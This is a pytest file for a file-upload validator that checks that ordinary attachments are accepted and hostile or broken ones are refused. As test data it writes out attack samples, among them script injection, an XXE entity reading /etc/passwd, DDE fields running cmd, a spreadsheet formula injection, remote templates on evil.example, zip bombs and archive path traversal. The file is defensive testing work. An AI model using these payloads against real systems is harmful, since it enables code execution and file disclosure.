import io
import itertools
import os
import subprocess
import sys
import unicodedata
import zipfile
import zlib
from contextlib import suppress
from pathlib import Path

import pikepdf
import pillow_heif
import pytest
from PIL import Image

from attachments import corpus
from kevytasiointi.attachments.checks import check
from kevytasiointi.attachments.refusals import (
    ActiveContent,
    Broken,
    ContentDisagrees,
    EmptyFile,
    Encrypted,
    ExpandsTooFar,
    FileRefused,
    TooManyPixels,
    TypeNotAccepted,
)
from kevytasiointi.attachments.rules import MEBIBYTE, TYPES

ALL = frozenset(TYPES)


def heic() -> bytes:
    out = io.BytesIO()
    pillow_heif.from_pillow(Image.new("RGB", (64, 48), "green")).save(out)
    return out.getvalue()


ORDINARY = {
    "kartta.pdf": corpus.pdf(),
    "KARTTA.PDF": corpus.pdf(),
    "edessä tavuja.pdf": corpus.pdf(header=b"\r\n\r\n%PDF-1.4\n"),
    unicodedata.normalize("NFD", "Äänekosken päätös.pdf"): corpus.pdf(),
    "linkki.pdf": corpus.pdf(
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://example.org) >> >>",
        page=b"/Annots [4 0 R]",
    ),
    "pakattuja olioita.pdf": corpus.pdf_with_swollen_objects(0),
    "kuva.jpg": corpus.picture("JPEG"),
    "kuva.jpeg": corpus.picture("JPEG"),
    "paikka.jpg": corpus.jpeg_with_place(),
    "kuva.png": corpus.picture("PNG"),
    "kuva.webp": corpus.picture("WEBP"),
    "kuva.heic": heic(),
    "selvitys.docx": corpus.docx(),
    "linkkejä.docx": corpus.docx_with(
        {
            "word/_rels/document.xml.rels": corpus.relationships(("hyperlink", "https://example.org", "External")),
            "word/_rels/settings.xml.rels": corpus.relationships(
                ("attachedTemplate", "file:///C:\\Mallit\\Normal.dotm", "External")
            ),
        }
    ),
    "sisällysluettelo.docx": corpus.zipped(
        corpus.docx_parts("<w:p><w:fldSimple w:instr=' TOC \\o '/><w:r><w:instrText>PAGE</w:instrText></w:r></w:p>")
    ),
    "kaavio.docx": corpus.docx_with({"word/embeddings/Microsoft_Excel_Sheet1.xlsx": corpus.xlsx()}),
    "taulukko.xlsx": corpus.xlsx(),
    "teksti.odt": corpus.odt(),
}


@pytest.mark.parametrize("name", ORDINARY)
def test_ordinary_files_are_accepted(name):
    file = io.BytesIO(ORDINARY[name])
    found = check(file, name=name, accept=ALL)
    assert name.casefold().endswith(found.extensions)
    assert file.tell() == 0


def test_a_pdf_of_ten_mebibytes_is_accepted():
    assert check(io.BytesIO(corpus.pdf_of_size(10 * MEBIBYTE)), name="a.pdf", accept=ALL).id == "pdf"


HTML = b"<!doctype html><script>alert(1)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
LAUGHS = b'<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><w>&b;</w>'
XXE = b'<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><w>&x;</w>'
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"

CONFUSED = {
    "HTML as PDF": ("a.pdf", HTML, ContentDisagrees),
    "HTML": ("a.html", HTML, TypeNotAccepted),
    "SVG": ("a.svg", SVG, TypeNotAccepted),
    "SVG as PNG": ("a.png", SVG, ContentDisagrees),
    "GIF with script as JPEG": ("a.jpg", b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1)", ContentDisagrees),
    "program as PDF": ("a.pdf", b"MZ" + b"\0" * 2000, ContentDisagrees),
    "program with a double name": ("lasku.pdf.exe", b"MZ" + b"\0" * 2000, TypeNotAccepted),
    "program with a turned name": ("lasku\u202efdp.exe", b"MZ" + b"\0" * 2000, TypeNotAccepted),
    "XML with an outside entity": ("a.xml", XXE, TypeNotAccepted),
    "outside entity in Word": ("a.docx", corpus.docx_with({"word/footer1.xml": XXE}), ActiveContent),
    "zip as Word": ("a.docx", corpus.zipped({"a.txt": b"a"}), ContentDisagrees),
    "Word as PDF": ("a.pdf", corpus.docx(), ContentDisagrees),
    "PDF as Word": ("a.docx", corpus.pdf(), ContentDisagrees),
    "JPEG as PNG": ("a.png", corpus.picture("JPEG"), ContentDisagrees),
    "Excel as Word": ("a.docx", corpus.xlsx(), ContentDisagrees),
    "gzip as Word": ("a.docx", b"\x1f\x8b\x08" + b"\0" * 100, ContentDisagrees),
    "old Word as Word": ("a.docx", OLE + b"\0" * 2000, ContentDisagrees),
    "spreadsheet formulas": ("a.csv", b"=cmd|'/c calc'!A0", TypeNotAccepted),
    "no extension": ("kartta", corpus.pdf(), TypeNotAccepted),
}


def pdf_action(name: bytes) -> bytes:
    return corpus.pdf(b"<< /Type /Action /S /%s >>" % name, catalog=b"/OpenAction 4 0 R")


def word_field(*pieces: str) -> bytes:
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return corpus.zipped(corpus.docx_parts(f"<w:p><w:r><w:fldChar/></w:r>{runs}</w:p>"))


def word_link(kind: str, target: str) -> bytes:
    return corpus.docx_with({"word/_rels/settings.xml.rels": corpus.relationships((kind, target, "External"))})


ACTIVE = {
    "JavaScript": ("a.pdf", pdf_action(b"JavaScript"), ActiveContent),
    "JavaScript with an escaped name": ("a.pdf", pdf_action(b"J#61vaScript"), ActiveContent),
    "JavaScript key with an escaped name": (
        "a.pdf",
        corpus.pdf(catalog=b"/Names << /#4aavaScript << /Names [] >> >>"),
        ActiveContent,
    ),
    "JavaScript in packed objects": (
        "a.pdf",
        corpus.pdf_with_packed_objects(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")),
        ActiveContent,
    ),
    "launched program": ("a.pdf", pdf_action(b"Launch"), ActiveContent),
    "launched on opening the page": (
        "a.pdf",
        corpus.pdf(page=b"/AA << /O << /S /Launch /F (calc.exe) >> >>"),
        ActiveContent,
    ),
    "file in a PDF": (
        "a.pdf",
        corpus.pdf(b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream"),
        ActiveContent,
    ),
    "file specification in a PDF": (
        "a.pdf",
        corpus.pdf(catalog=b"/Names << /EmbeddedFiles << /Names [] >> >>"),
        ActiveContent,
    ),
    "macro in Word": ("a.docx", corpus.docx_with({"word/vbaProject.bin": OLE}), ActiveContent),
    "macro type as Word": (
        "a.docx",
        corpus.zipped(corpus.docx_parts(main_type="application/vnd.ms-word.document.macroEnabled.main+xml")),
        ActiveContent,
    ),
    "remote template": ("a.docx", word_link("attachedTemplate", "https://evil.example/a.dotm"), ActiveContent),
    "template on another computer": ("a.docx", word_link("attachedTemplate", "\\\\evil\\a.dotm"), ActiveContent),
    "template by file address": ("a.docx", word_link("attachedTemplate", "file://evil/a.dotm"), ActiveContent),
    "DDE field": ("a.docx", word_field('DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"'), ActiveContent),
    "divided DDE field": ("a.docx", word_field(" D", "DE", 'AUTO cmd "/k calc"'), ActiveContent),
    "simple DDE field": (
        "a.docx",
        corpus.zipped(corpus.docx_parts('<w:p><w:fldSimple w:instr="DDE cmd"/></w:p>')),
        ActiveContent,
    ),
    "embedded program": ("a.docx", corpus.docx_with({"word/embeddings/oleObject1.bin": OLE}), ActiveContent),
    "embedded archive": (
        "a.docx",
        corpus.docx_with({"word/embeddings/a.docx": corpus.zipped({"a.exe": b"MZ"})}),
        ActiveContent,
    ),
    "script in OpenDocument": (
        "a.odt",
        corpus.odt(content=b'<c xmlns:s="urn:x"><s:event-listener/></c>'),
        ActiveContent,
    ),
    "PDF with a password": ("a.pdf", corpus.encrypted_pdf(user_password="salaisuus"), Encrypted),
    "PDF with restrictions": ("a.pdf", corpus.encrypted_pdf(user_password=""), Encrypted),
    "Word with a password": (
        "a.docx",
        OLE + b"\0" * 2000 + "EncryptedPackage".encode("utf-16-le"),
        Encrypted,
    ),
    "OpenDocument with a password": ("a.odt", corpus.odt(b"<manifest><encryption-data/></manifest>"), Encrypted),
    "zip that says it is encrypted": ("a.docx", corpus.zip_that_says_it_is_encrypted(), Encrypted),
}


def nested_zips(depth: int) -> bytes:
    made = b"0" * 1000
    for _ in range(depth):
        made = corpus.zipped({"a.zip": made})
    return made


BOMBS = {
    "128 MiB in a small Word file": (
        "a.docx",
        corpus.docx_with({"word/media/a.bin": b"\0" * (128 * MEBIBYTE)}),
        ExpandsTooFar,
    ),
    "a hundred megabytes of zeros": (
        "a.docx",
        corpus.docx_with({"word/media/a.bin": b"\0" * (60 * MEBIBYTE)}),
        ExpandsTooFar,
    ),
    "zips in zips": ("a.docx", corpus.docx_with({"word/media/a.zip": nested_zips(16)}), ExpandsTooFar),
    "zips in an embedded file": (
        "a.docx",
        corpus.docx_with({"word/embeddings/a.xlsx": corpus.docx_with({"word/embeddings/b.xlsx": corpus.xlsx()})}),
        ExpandsTooFar,
    ),
    "20,003 entries": (
        "a.docx",
        corpus.docx_with({f"word/media/{n}": b"" for n in range(20_000)}),
        ExpandsTooFar,
    ),
    "5,000 entries over one": ("a.docx", corpus.zip_with_shared_bytes(5_000), ExpandsTooFar),
    "900 entries over one": ("a.docx", corpus.zip_with_shared_bytes(900), ExpandsTooFar),
    "PNG of 50,000 by 50,000": (
        "a.png",
        corpus.png_that_says(50_000, 50_000, zlib.compress(b"\0" * 9999)),
        TooManyPixels,
    ),
    "PNG of 8,000 by 8,000": ("a.png", corpus.png_that_says(8_000, 8_000, zlib.compress(b"\0" * 9999)), TooManyPixels),
    "PNG with less than it says": ("a.png", corpus.png_that_says(900, 900, zlib.compress(b"\0" * 99)), Broken),
    "JPEG of 60,000 by 60,000": ("a.jpg", corpus.jpeg_that_says(60_000, 60_000), TooManyPixels),
    "PDF whose objects swell to 300 MiB": ("a.pdf", corpus.pdf_with_swollen_objects(300), Broken),
    "XML laughs": ("a.xml", LAUGHS, TypeNotAccepted),
    "XML laughs in Word": ("a.docx", corpus.docx_with({"word/styles.xml": LAUGHS}), ActiveContent),
    "XML of endless depth": ("a.docx", corpus.docx_with({"word/styles.xml": b"<a>" * 100_000}), Broken),
}

BROKEN = {
    "empty": ("a.pdf", b"", EmptyFile),
    "cut PNG": ("a.png", corpus.picture("PNG")[:-200], Broken),
    "cut JPEG": ("a.jpg", corpus.picture("JPEG", (640, 480))[:4000], Broken),
    "cut WebP": ("a.webp", corpus.picture("WEBP")[:200], Broken),
    "cut HEIC": ("a.heic", heic()[:200], Broken),
    "PNG header only": ("a.png", b"\x89PNG\r\n\x1a\n", Broken),
    "PDF header only": ("a.pdf", b"%PDF-1.7\n", Broken),
    "PDF that readers would mend": ("a.pdf", corpus.pdf().replace(b"startxref", b"startxxxx"), Broken),
    "PDF with objects that can't be unpacked": ("a.pdf", corpus.pdf_with_swollen_objects(1, damaged=True), Broken),
    "PDF without pages": (
        "a.pdf",
        corpus.assembled_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"]),
        Broken,
    ),
    "PDF whose pages go in a circle": (
        "a.pdf",
        corpus.assembled_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"]),
        Broken,
    ),
    "cut Word": ("a.docx", corpus.docx()[:-30], Broken),
    "Word with a wrong checksum": (
        "a.docx",
        corpus.zipped(corpus.docx_parts(), zipfile.ZIP_STORED).replace(b"<w:t>Hei", b"<w:t>Hoi"),
        Broken,
    ),
    "Word with broken XML": ("a.docx", corpus.docx_with({"word/document.xml": b"<a><b></a>"}), Broken),
    "path out of the archive": ("a.docx", corpus.docx_with({"../../etc/cron.d/a": b"*"}), Broken),
    "path from the root": ("a.docx", corpus.docx_with({"/etc/cron.d/a": b"*"}), Broken),
    "link in the archive": ("a.docx", corpus.zip_with_symlink(), Broken),
}
HOSTILE = {
    f"{group}: {what}": case
    for group, cases in {"confused": CONFUSED, "active": ACTIVE, "bomb": BOMBS, "broken": BROKEN}.items()
    for what, case in cases.items()
}


@pytest.mark.parametrize("what", HOSTILE)
def test_hostile_and_broken_files_are_refused_in_words(what):
    name, content, refusal = HOSTILE[what]
    with pytest.raises(FileRefused) as refused:
        check(io.BytesIO(content), name=name, accept=ALL)
    assert type(refused.value) is refusal, refused.value
    assert "%(" not in refused.value.sentence


def test_bombs_are_refused_in_little_memory(tmp_path):
    paths = []
    for number, (name, content, _) in enumerate(BOMBS.values()):
        paths.append(tmp_path / f"{number}-{name}")
        paths[-1].write_bytes(content)
    ran = subprocess.run(
        [sys.executable, str(Path(__file__).with_name("in_small_process.py")), *map(str, paths)],
        env={"PYTHONPATH": os.pathsep.join(sys.path)},
        capture_output=True,
        text=True,
        check=False,
    )
    assert ran.stdout.split() == [refusal.__name__ for _, _, refusal in BOMBS.values()], ran.stderr


def test_a_type_that_the_question_does_not_accept_is_refused():
    with pytest.raises(TypeNotAccepted):
        check(io.BytesIO(corpus.docx()), name="a.docx", accept={"pdf", "jpg"})


@pytest.mark.parametrize(
    "name", ["kartta.pdf", "kuva.jpg", "kuva.png", "kuva.webp", "kuva.heic", "kaavio.docx", "teksti.odt"]
)
def test_a_file_cut_or_damaged_anywhere_is_refused_or_accepted_but_never_fails(name):
    whole = ORDINARY[name]
    for at in itertools.islice(range(0, len(whole), max(1, len(whole) // 60)), 60):
        for damaged in (whole[:at], whole[:at] + bytes([whole[at] ^ 0xFF]) + whole[at + 1 :]):
            with suppress(FileRefused):
                check(io.BytesIO(damaged), name=name, accept=ALL)
